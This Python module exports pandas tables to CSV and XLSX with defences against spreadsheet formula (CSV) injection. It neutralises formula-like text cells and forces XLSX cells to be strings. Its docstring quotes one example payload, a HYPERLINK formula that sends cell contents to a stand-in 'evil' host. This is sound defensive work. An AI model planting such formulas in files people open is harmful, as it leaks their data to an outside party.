"""Write tables that spreadsheets open safely: publisher text never becomes a live formula.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel, LibreOffice
and Google Sheets (CSV injection: `=HYPERLINK("http://evil/?d="&A2, ...)` runs when a journalist opens the file).
CSV gets OWASP's defence: such a text cell is prefixed with a single quote, unless it is a plain number. XLSX keeps
every text exactly and stores it as a string cell, never as a formula."""
from __future__ import annotations

import re
from pathlib import Path
from typing import TextIO

import pandas as pd

# The sheets of an XLSX export.
DATA_SHEET, SOURCES_SHEET = "data", "sources"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d[\d,]*(\.\d+)?|\.\d+)%?")


def neutralise(text: object) -> object:
    """A text cell as it can go into a CSV: `'` before one a spreadsheet would read as a formula."""
    if isinstance(text, str) and text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
    """Every text column neutralised (numbers and dates untouched)."""
    out = df.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise)
    return out


def write_csv(df: pd.DataFrame, out: Path | TextIO | None = None) -> str | None:
    """The frame as CSV with formula-like text neutralised (to a path or stream; as a string when out is None)."""
    return csv_safe(df).to_csv(out, index=False)


def write_xlsx(sheets: dict[str, pd.DataFrame], out: Path) -> None:
    """One sheet per frame; every text cell a string cell, so nothing a publisher printed can run as a formula."""
    with pd.ExcelWriter(out, engine="openpyxl") as writer:
        for name, df in sheets.items():
            df.to_excel(writer, index=False, sheet_name=name)
        for sheet in writer.book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":  # openpyxl takes any text starting with '=' for a formula
                        cell.data_type = "s"
